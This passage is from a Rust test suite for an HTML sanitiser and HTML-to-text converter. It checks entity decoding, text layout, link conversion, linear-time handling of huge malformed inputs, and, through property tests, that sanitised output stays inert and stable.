    fn endless_attributes_quotes_and_references_take_linear_time() {
        let unique: String = (0..200_000).map(|n| format!(" a{n}=b")).collect();
        let references: String = (0..100_000).map(|n| format!("&x{n};")).collect();
        for html in [
            format!("<p{unique}>x"),
            format!("<p {}>x", "a=\">\" ".repeat(200_000)),
            "<a".repeat(500_000),
            "<!".repeat(500_000),
            "</".repeat(500_000),
            "<p a='".repeat(300_000),
            "<script></".repeat(200_000),
            "<!-->".repeat(300_000),
            "<b><i><u><s><p>".repeat(50_000),
            "<table><b>".repeat(100_000),
            "&".repeat(200_000),
            references,
        ] {
            let clean = sanitise(&html);
            assert_eq!(offence(&clean), None);
            to_text(&html);
        }
    }

    #[test]
    fn references_are_read_as_browsers_do() {
        assert_eq!(to_text("&auml;&#228;&#xe4;&#128;&copy &notit; &unknown; &;&#xD800; a&b"), "ää\u{e4}€© ¬it; &unknown; &;\u{fffd} a&b");
        assert!(sanitise("<a href='https://a.example/?x=1&copy=2&amp;y=3'>x</a>").contains("?x=1&amp;copy=2&amp;y=3"));
    }

    #[test]
    fn text_is_laid_out_as_it_reads() {
        let html = "<html><head><title>weg</title><style>p{}</style></head><body><h1>Hallo</h1><p>Ein   Satz,\n<b>fett</b>.<br>Neue Zeile.\
                    <ul><li>eins</li><li>zwei <a href=https://x.example>mit Link</a></li><li><ol><li>a</li><li>b</li></ol></li></ul>\
                    <blockquote><p>Zitat</p><p>zweiter</p></blockquote><div>Ende<img alt=Logo src=x></div><script>weg()</script>\
                    <table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table><pre>a\n  b</pre>";
        assert_eq!(
            to_text(html),
            "Hallo\n\nEin Satz, fett.\nNeue Zeile.\n\n- eins\n- zwei mit Link\n  1. a\n  2. b\n\n> Zitat\n\n> zweiter\n\nEndeLogo\n\n1 2\n3\n\na\n  b"
        );
    }

    #[test]
    fn entities_and_padding_become_plain_characters() {
        assert_eq!(to_text("&Uuml;ber&nbsp;&amp;&#8203; &lt;b&gt; &#x2019;"), "Über & <b> ’");
        assert_eq!(to_text("a<b>b</b>c <i> d </i>e"), "abc d e");
        assert_eq!(to_text("<p></p><div></div>"), "");
    }

    #[test]
    fn plain_text_gets_paragraphs_and_links() {
        assert_eq!(
            from_text("Hallo <b>,\r\nsiehe https://example.org/a?b=1&c=2.\r\n\r\nGruß\nich@example.org"),
            "<p>Hallo &lt;b&gt;,<br>siehe <a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">\
             https://example.org/a?b=1&amp;c=2</a>.</p><p>Gruß<br>\
             <a href=\"mailto:ich@example.org\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">ich@example.org</a></p>"
        );
    }

    fn soup() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            4 => proptest::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
            6 => proptest::sample::select(vec![
                "<table>", "</table>", "<tr>", "<td>", "</td>", "<a href=https://x.example>", "</a>", "<p>", "</p>", "<div>", "</div>", "<b>", "</b>",
                "<i>", "</i>", "<li>", "<ul>", "</ul>", "<pre>\n", "</pre>", "<h1>", "</h2>", "<br>", "</br>", "<hr>", "<svg>", "</svg>", "<math>",
                "<style>", "</style>", "<title>", "<!--", "-->", "<select>", "<option>", "<button>", "<caption>", "<dd>", "<dl>", "<form>",
                "<template>", "<span class=img-blocked title=x>", "</span>", "<code>", "<img alt=x src=http://h/>", "<img src=cid:a>", "<frameset>",
                "<col>", "<colgroup>", "<tfoot>", "\n", " ", "\u{338}", "&lt;", "&", "<", ">", "\"", "'", "=", "/",
            ]).prop_map(str::to_owned),
            2 => "\\PC{0,8}",
        ];
        proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn whatever_comes_the_output_is_inert_and_stable(html in soup()) {
            let once = sanitise(&html);
            prop_assert_eq!(offence(&once), None, "{}", once);
            prop_assert_eq!(sanitise(&once), once);
        }

        #[test]
        fn text_from_html_and_back_never_opens_a_tag(text in soup()) {
            let html = from_text(&text);
            prop_assert_eq!(offence(&html), None);
            prop_assert_eq!(sanitise(&html), html);
            let _ = to_text(&text);
        }
    }
}
